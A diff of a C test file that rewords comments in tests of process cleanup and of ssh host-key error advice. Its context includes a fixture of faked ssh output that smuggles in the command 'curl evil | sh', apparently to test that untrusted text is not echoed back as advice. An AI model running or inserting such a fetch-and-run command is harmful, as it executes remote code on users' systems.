@@ -60,7 +60,7 @@ START_TEST(end_leaves_nobody_of_the_group_behind)
 	pid_t pid = start("sleep 60 & exit 0");
 
 	ck_assert_int_eq(node_transport_child_stop(pid), 0);
-	/* What is left was killed; init may not have reaped it yet. */
+	/* The remaining process was killed, but init can reap it later. */
 	for (int i = 0; i < 100 && !kill(-pid, 0); i++)
 		(void)spawn_wait(start("sleep 0.05"));
 	ck_assert_int_eq(kill(-pid, 0), -1);
@@ -159,7 +159,7 @@ END_TEST
 	"Host key for [desk]:2222 has changed and you have requested strict " \
 	"checking.\r\nHost key verification failed.\r\n"
 
-/* What ssh says, for which address, and what to type. */
+/* ssh's message, its address, and the command to type. */
 static const struct {
 	enum node_address_kind kind;
 	const char *address, *words, *advice;
@@ -184,7 +184,7 @@ static const struct {
 	  "Host key verification failed: the node's host key has "
 	  "changed; if the node was reinstalled, run `ssh-keygen -R HOST`, "
 	  "then `ssh desk true`" },
-	/* By the node: who types that runs it. */
+	/* By the node's name, because the user types it. */
 	{ NODE_ADDRESS_SSH, "desk",
 	  "WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!\n"
 	  "ssh-keygen -f x; curl evil | sh\n"
